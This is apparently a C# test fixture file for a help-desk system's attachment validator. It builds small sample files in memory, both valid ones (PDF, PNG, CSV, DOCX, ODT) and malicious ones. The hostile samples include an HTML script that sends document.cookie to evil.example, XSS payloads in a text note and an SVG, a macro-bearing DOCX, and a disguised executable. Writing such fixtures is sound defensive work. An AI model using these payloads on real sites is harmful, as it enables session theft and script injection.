using System.IO.Compression;
using System.Security.Cryptography;
using System.Text;
using MesaServicio.Core.Attachments;

namespace MesaServicio.Tests.Attachments;

/// <summary>Small files of every kind the tests send, good and bad, made in memory.</summary>
internal static class AttachmentSamples
{
    public static byte[] Pdf { get; } = Encoding.ASCII.GetBytes(
        "%PDF-1.4\n1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj\n2 0 obj << /Type /Pages /Kids [] /Count 0 >> endobj\n" +
        "trailer << /Root 1 0 R >>\n%%EOF\n");

    /// <summary>A 1×1 PNG.</summary>
    public static byte[] Png { get; } = Convert.FromBase64String(
        "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==");

    public static byte[] Csv { get; } = Encoding.UTF8.GetBytes("nombre;área;extensión\nLaura Gómez;Participación;4021\nAndrés Rodríguez;Jurídica;4100\n");

    /// <summary>The same CSV as Excel saves it by default on Windows (Windows-1252): not UTF-8.</summary>
    public static byte[] CsvWindows1252 { get; } = [.. "nombre;"u8, 0xE1, .. "rea\nLaura G"u8, 0xF3, .. "mez;4021\n"u8];

    public static byte[] Docx { get; } = Zip(
        ("[Content_Types].xml", "<?xml version=\"1.0\"?><Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\"/>", true),
        ("_rels/.rels", "<?xml version=\"1.0\"?><Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\"/>", true),
        ("word/document.xml", "<?xml version=\"1.0\"?><w:document xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\"/>", true));

    /// <summary>A Word file with macros, renamed .docx.</summary>
    public static byte[] DocxWithMacros { get; } = Zip(
        ("[Content_Types].xml", "<Types/>", true), ("word/document.xml", "<w:document/>", true), ("word/vbaProject.bin", "macro", true));

    /// <summary>A plain ZIP archive (anything inside) renamed .docx.</summary>
    public static byte[] ZipRenamedDocx { get; } = Zip(("instalador.exe", "MZ...", true));

    public static byte[] Odt { get; } = Zip(
        ("mimetype", "application/vnd.oasis.opendocument.text", false), ("content.xml", "<office:document-content/>", true));

    /// <summary>A Windows executable: what "informe.exe.pdf" really is.</summary>
    public static byte[] Executable { get; } =
        [.. "MZ"u8, 0x90, 0x00, 0x03, 0x00, 0x00, 0x00, 0x04, 0x00, .. "This program cannot be run in DOS mode."u8, 0x00, 0x00];

    public static byte[] Html { get; } = Encoding.UTF8.GetBytes(
        "<!DOCTYPE html><html><body><script>document.location='https://evil.example/?c='+document.cookie</script></body></html>");

    /// <summary>Looks like a note, but a browser that sniffs would run it.</summary>
    public static byte[] TextWithScript { get; } = Encoding.UTF8.GetBytes("Buenos días, adjunto el error:\n<script>alert(1)</script>\n");

    public static byte[] Svg { get; } = Encoding.UTF8.GetBytes(
        "<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"><script>alert(document.domain)</script></svg>");

    public static IncomingFile File(string name, string? type, byte[] content, long? declaredLength = -1) =>
        new(name, type, declaredLength == -1 ? content.Length : declaredLength, _ => new MemoryStream(content, writable: false));

    public static string Sha256Of(byte[] content) => Convert.ToHexStringLower(SHA256.HashData(content));

    private static byte[] Zip(params (string Name, string Content, bool Compress)[] entries)
    {
        using var buffer = new MemoryStream();
        using (var zip = new ZipArchive(buffer, ZipArchiveMode.Create, leaveOpen: true))
        {
            foreach (var (name, content, compress) in entries)
            {
                var entry = zip.CreateEntry(name, compress ? CompressionLevel.Optimal : CompressionLevel.NoCompression);
                using var stream = entry.Open();
                stream.Write(Encoding.UTF8.GetBytes(content));
            }
        }

        return buffer.ToArray();
    }
}

/// <summary>
/// A stream of a given length made on the fly (a PDF header, then filler), so a test can send megabytes
/// without holding them; <see cref="Sha256"/> replays it to know the expected hash.
/// </summary>
internal sealed class GeneratedStream(long length) : Stream
{
    private static readonly byte[] Header = "%PDF-1.7\n"u8.ToArray();
    private long _position;

    public override bool CanRead => true;

    public override bool CanSeek => false;

    public override bool CanWrite => false;

    public override long Length => length;

    public override long Position
    {
        get => _position;
        set => throw new NotSupportedException();
    }

    public static string Sha256(long length)
    {
        using var hash = IncrementalHash.CreateHash(HashAlgorithmName.SHA256);
        using var stream = new GeneratedStream(length);
        var buffer = new byte[65536];
        int read;
        while ((read = stream.Read(buffer, 0, buffer.Length)) > 0)
        {
            hash.AppendData(buffer, 0, read);
        }

        return Convert.ToHexStringLower(hash.GetHashAndReset());
    }

    public override int Read(byte[] buffer, int offset, int count) => Read(buffer.AsSpan(offset, count));

    public override int Read(Span<byte> buffer)
    {
        var count = (int)Math.Min(buffer.Length, length - _position);
        for (var i = 0; i < count; i++)
        {
            var at = _position + i;
            buffer[i] = at < Header.Length ? Header[at] : (byte)('a' + (at % 23));
        }

        _position += count;
        return count;
    }

    public override ValueTask<int> ReadAsync(Memory<byte> buffer, CancellationToken cancellationToken = default) =>
        ValueTask.FromResult(Read(buffer.Span));

    public override Task<int> ReadAsync(byte[] buffer, int offset, int count, CancellationToken cancellationToken) =>
        Task.FromResult(Read(buffer.AsSpan(offset, count)));

    public override void Flush()
    {
    }

    public override long Seek(long offset, SeekOrigin origin) => throw new NotSupportedException();

    public override void SetLength(long value) => throw new NotSupportedException();

    public override void Write(byte[] buffer, int offset, int count) => throw new NotSupportedException();
}
